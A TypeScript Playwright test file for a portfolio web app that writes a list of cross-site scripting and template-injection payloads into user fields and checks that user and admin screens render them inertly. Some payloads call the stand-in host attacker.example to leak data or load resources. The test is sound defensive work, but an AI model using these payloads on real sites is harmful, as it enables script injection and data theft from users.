import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { UserId } from '#api/platform/ids';
import { ADMINISTRATOR, addAdministrator, signIn, type Account } from '../support/accounts.ts';
import { bondAnalyticsTexts } from '../../src/web/platform/texts/portfolio/figures/bond-analytics.ts';
import { startBrowser } from '../support/browser.ts';
import { startSite, type Site } from '../support/site.ts';
import { aPerson } from '../support/a-person.ts';
import { visit } from '../support/visit.ts';

/** Texts that run scripts, load resources or leak data if a screen treats them as markup, an address or a template. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '![x](https://attacker.example/?leak)',
  '[x](javascript:alert(1))',
  '<img src="https://attacker.example/pixel">',
  '<link rel=stylesheet href=https://attacker.example/a.css>',
  '<style>@import "https://attacker.example/a.css"</style>',
  '<base href="https://attacker.example/">',
  '<meta http-equiv=refresh content="0;url=https://attacker.example">',
  '<form action=https://attacker.example><button>x',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '</title><script>alert(1)</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '\u202e<script>alert(1)</script>',
] as const;
const attack = (number: number) => ATTACKS[number % ATTACKS.length]!;

let browser: Browser;
let site: Site;
let person: Account;
let bondId: number;
let userId: number;
beforeAll(async () => {
  browser = await startBrowser();
  site = await startSite(addAdministrator);
  person = await aPerson(site);
  [userId, bondId] = await attackWith(person);
});
afterAll(() => site.stop());

/** Writes the attacks into every text of this person and of their holdings, bypassing all checks. */
async function attackWith({ email }: Account): Promise<[number, number]> {
  const { db } = site;
  const { id } = await db
    .updateTable('users')
    .set({ username: attack(0), phone_number: attack(1) })
    .where('email', '=', email)
    .returning('id')
    .executeTakeFirstOrThrow();
  const figures = {
    buy_price: '98',
    market_price: '99',
    nominal: '1000',
    result: '0.01',
    amount_paid: '980',
    profit: '10',
  };
  const bonds = await db
    .insertInto('bonds')
    .values(
      ATTACKS.map((text, number) => ({
        ...figures,
        user_id: UserId.parse(id),
        isin: text.slice(0, 40),
        notes: text,
        bank: attack(number + 3),
        direction: 'Buy' as const,
        currency: 'EUR' as const,
      })),
    )
    .returning('id')
    .execute();
  await db
    .insertInto('etfs_and_shares')
    .values(
      (['etf', 'share'] as const).flatMap((kind) =>
        ATTACKS.map((text, number) => ({
          ...figures,
          user_id: UserId.parse(id),
          kind,
          isin: text.slice(0, 40),
          name: text,
          bank: attack(number + 3),
          direction: 'Bid' as const,
          currency: 'EUR' as const,
        })),
      ),
    )
    .execute();
  return [id, bonds[0]!.id];
}

/** Opens each address. Returns every request to another server and every script dialog. */
async function strayed(page: Page, addresses: readonly string[]): Promise<string[]> {
  const astray: string[] = [];
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.origin !== new URL(site.url).origin && url.protocol !== 'data:') astray.push(request.url());
  });
  page.on('dialog', (dialog) => {
    astray.push(`dialog on ${page.url()}`);
    void dialog.dismiss();
  });
  for (const address of addresses) {
    await page.goto(address);
    await page.getByText(attack(0), { exact: false }).first().waitFor();
    expect(
      await page
        .locator('img[src="x"], iframe, base, main style, main script, a[href^="javascript:"]')
        .count(),
    ).toBe(0);
  }
  return astray;
}

test('texts of users are shown as text on every screen, nothing is requested from elsewhere, and the browser reports no policy violation (SEC-100, SEC-105, SEC-107)', async () => {
  await visit({ browser, site }, async ({ page, expectRefusal }) => {
    await signIn(page, person);
    // The text stored as the bond's ISIN is not an ISIN, so the bond has no position and no security.
    await page.goto(`/bond/${bondId}`);
    const { failed, pricesFailed } = bondAnalyticsTexts.en.position;
    for (const sentence of [failed, pricesFailed]) await page.getByText(sentence).waitFor();
    expectRefusal(404, '/api/positions/bond/');
    expectRefusal(404, '/api/instruments/');
    const addresses = ['/my-bonds', `/bond/${bondId}`, '/my/etfs', '/my/shares'];
    expect(await strayed(page, addresses)).toEqual([]);
  });
});

test("texts of users are shown as text on the administrator's screens, too (SEC-105)", async () => {
  await visit({ browser, site }, async ({ page }) => {
    await signIn(page, ADMINISTRATOR);
    const ofUser = `/admin/users/${userId}`;
    const addresses = ['/admin', ofUser, `${ofUser}/etfs`, `${ofUser}/shares`];
    addresses.push(`/admin/bonds/${bondId}/cashflows`);
    expect(await strayed(page, addresses)).toEqual([]);
  });
});
